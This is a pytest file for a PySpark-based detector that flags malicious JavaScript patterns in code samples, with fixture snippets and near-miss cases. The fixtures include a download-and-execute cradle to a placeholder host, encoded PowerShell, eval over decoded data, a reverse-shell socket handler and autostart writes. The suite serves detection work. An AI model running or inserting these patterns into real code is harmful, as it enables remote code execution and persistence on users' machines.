import pytest
from pyspark.sql import functions as F

from trawl.functions import rules
from trawl.operators import shapes
from trawl.operators.shapes import is_module_source, shape_findings, trigger_keywords

CRADLE = "download-and-execute cradle (one command string fetches a remote payload and runs it)"
ENCODED = "LOLBIN executing an encoded/decoded payload (powershell -enc / certutil -decode)"
DECODED_EVAL = "AST: eval()/new Function() over DECODED data (base64/decipher/inflate) — multi-stage loader"
BUILT_EVAL = "AST: dynamic eval()/new Function() on a constructed (non-static) value"
PACKED = "runtime-decrypts an embedded payload with a hard-coded key (packed second stage)"
SHELL = "AST: reverse shell — a socket data handler executes received input as a process"
DECODED_COMMAND = "AST: child_process executing a DECODED command string"
TAINTED = "AST: child_process invoked with a non-static/tainted command argument"
AUTOSTART = "AST: writes into an autostart/persistence location"
DROPS = "AST: writes an executable/script payload to disk"
DROPS_SAFELY = "AST: writes an executable payload into a temp/extension directory"

CASES = [
    ("const c = 'curl http://x.example/a.sh | sh';", {CRADLE}),
    ("run('powershell -enc " + "QUJD" * 12 + "')", {ENCODED}),
    ("eval(atob(payload))", {DECODED_EVAL}),
    ("new Function('a', Buffer.from(s, 'base64').toString('utf8'))()", {DECODED_EVAL}),
    ("eval(prefix + body)", {BUILT_EVAL}),
    ("eval('1 + 1'); eval(\"(\" + json + \")\"); new Function('return this')()", set()),
    ("evaluate(x); reeval(y); o.eval2(z)", set()),
    ("crypto.createDecipheriv('aes-256-cbc', '0123456789abcdef', iv)", {PACKED}),
    ("crypto.createDecipheriv('aes-256-cbc', Buffer.from('00ff', 'hex'), iv)", {PACKED}),
    ("crypto.createDecipheriv('aes-256-cbc', key, iv); crypto.createDecipheriv(algo, '0123456789abcdef', iv); createDecipheriv('x', 'short', iv)", set()),
    ("sock.on('data', (d) => { cp.exec('ls'); })", {SHELL}),
    ("sock.on('data', function (d) { log(d); }); cp.exec('ls')", set()),
    ("cp.exec(atob(x))", {DECODED_COMMAND}),
    ("cp.spawn(cmd, ['-c'])", {TAINTED}),
    ("cp.execSync(`git ${verb}`)", {TAINTED}),
    ("cp.execSync('git status'); cp.exec('a' + 'b', cb); regex.execute(x)", set()),
    ("fs.writeFileSync('/home/u/.config/autostart/x.desktop', d)", {AUTOSTART}),
    ("fs.writeFile('C:/x/run.exe', d, cb)", {DROPS}),
    ("fs.createWriteStream(path.join(os.tmpdir(), 'a.ps1'))", {DROPS_SAFELY}),
    ("fs.writeFile('notes.txt', d)", set()),
    # near misses: comments, strings, definitions, regular expressions, other names
    ("// eval(atob(p))\n/* cp.exec(atob(x)); eval(y) */ f()", set()),
    ("log('eval(atob(p)) cp.exec(x)')", set()),
    ("eval('atob(p)'); cp.exec('decrypt(x)')", set()),
    ("function exec(cmd) { return 1 }\nclass A { spawn(cmd) { return 2 } }", set()),
    ("const r = /['\"(]/; eval(atob(p)); const q = a / b / c;", {DECODED_EVAL}),
    ("x = y /* ' */ ; cp.exec(cmd)", {TAINTED}),
    ("sock.on('end', d => cp.exec('ls')); sock.on('data', handler)", set()),
    ("cp.exec(/* decrypt(x) */ 'ls')", set()),
    # depth, order, layout
    ("eval(" + "(" * 9 + "x" + ")" * 9 + ")", {BUILT_EVAL}),
    ("eval(a(b(c(d(e(f(atob(g(h(i))))))))))", {DECODED_EVAL}),
    ("if (a) { while (b) { [1].map((x) => { try { cp\n.exec (\n  cmd , [ 'a', { b : c } ]) } catch (e) {} }) } }", {TAINTED}),
    ("new Function('a', 'b', atob(x))", {DECODED_EVAL}),
    ("eval(wrap('a,b', \"c)\", `d(`, x))", {BUILT_EVAL}),
    ("cp.exec(fs.writeFileSync('/a/b.exe', atob(x)))", {DECODED_COMMAND, DROPS}),
    ("sock.on('data', async (d = f(1)) => { if (d) { cp.spawn('sh', ['-c', d]) } })", {SHELL}),
    ("eval(", set()),
    ("eval(atob(x", set()),
    (") ] } eval(x) ( [ {", {BUILT_EVAL}),
    ("", set()),
    (None, set()),
]


def test_each_shape(spark):
    rows = [(i, "src/a.js", c) for i, (c, _) in enumerate(CASES)]
    got = {}
    for r in shape_findings(spark.createDataFrame(rows, "sample_key long, path string, content string")).collect():
        got.setdefault(r.sample_key, set()).add(r.reason)
    for i, (content, want) in enumerate(CASES):
        assert got.get(i, set()) == want, content


def test_dependencies_other_files_and_long_ones(spark):
    rows = [(1, "node_modules/m/a.js", "eval(atob(p)); cp.exec(x)"), (2, "readme.md", "eval(atob(p))"),  (4, "a.js", "f('" + "x" * 200_000 + "', eval(atob(p)))" + "\\'" * 50_000)]
    got = {(r.sample_key, r.reason, r.tier) for r in shape_findings(spark.createDataFrame(rows, "sample_key long, path string, content string")).collect()}
    assert got == {(1, "AST: dependency eval()/new Function() over decoded data", "supporting"), (4, DECODED_EVAL, "primary")}
    assert shape_findings(spark.createDataFrame([], "sample_key long, path string, content string")).collect() == []


def test_a_script_is_cut_once_and_only_what_is_asked_for_is_kept(spark, monkeypatch):
    """Each word that a script was looked through for had its content made again, and comments and scripts without calls were written."""
    plans, kept = [], []

    def watched(rows, name, write=shapes.written_once):
        plans.append(rows._jdf.queryExecution().executedPlan().toString())
        kept.append(write(rows, name))
        return kept[-1]

    monkeypatch.setattr(shapes, "written_once", watched)
    texts = [(1, "f('a'); g(h)"), (2, "eval(/* why */ atob(p)) // so"), (3, "x = 'curl http://x.example/a.sh | sh'"), (4, "// eval(x)")]
    made = spark.createDataFrame(texts, "sample_key long, t string").select("sample_key", F.lit("a.js").alias("path"), F.regexp_replace("t", "why", "because").alias("content"))
    assert {(r.sample_key, r.reason) for r in shape_findings(made).collect()} == {(2, DECODED_EVAL), (3, CRADLE)}
    assert len(plans) == 1 and plans[0].count("because") <= 2
    assert sorted((r.sample_key, "".join(r.tokens)) for r in kept[0].collect()) == [(2, "eval( atob(p)) "), (3, texts[2][1])]


def test_odd_and_repeated_files(spark):
    both = "eval(atob(p)); run('curl http://x.example/a.sh | sh')"
    rows = [(1, "a.js", both), (1, "a.js", both), (None, "a.js", both), (2, None, both), (3, "a.js", None), (4, "a.js", ""), (5, "a.js", "/* eval(x)"), (6, "a.js", "cp.exec(//\n x/**/)"), (7, "a.txt", both), (8, "a.js", both + " " * rules.MAX_FILE_BYTES)]
    got = sorted(((r.sample_key or 0, r.reason) for r in shape_findings(spark.createDataFrame(rows, "sample_key long, path string, content string")).collect()))
    assert got == sorted([(k, r) for k in (1, 1, 0) for r in (CRADLE, DECODED_EVAL)] + [(6, TAINTED)])


@pytest.mark.parametrize(
    ("text", "module"),
    [("import x from 'y'", True), ("a\n  export default f", True), ("export { a }", True), ("const a = require('b')", False), ("important()", False), ("// import\nexports.a = 1", False), (None, False)],
)
def test_module_sources(spark, text, module):
    df = spark.createDataFrame([(text,)], "t string")
    assert df.select(is_module_source(df.t)).first()[0] is module


def test_trigger_keywords(spark):
    text = "if (x === 'Unlock') {} switch (x) { case 'open it': } s.includes('unlock') || s.startsWith(\"help\") || y == '9no'"
    df = spark.createDataFrame([(text,), ("",), (None,), (" ".join(f"x === 'word{chr(97 + i)}'" for i in range(26)),)], "t string")
    own, empty, null, many = (r[0] for r in df.select(trigger_keywords(df.t)).collect())
    usual = ["help", "test", "run", "start", "debug", "scan", "login", "password", "token", "admin"]
    assert own == ["unlock", "open it", "help", *(w for w in usual if w != "help")] and empty == null == usual and many == [f"word{chr(97 + i)}" for i in range(14)]
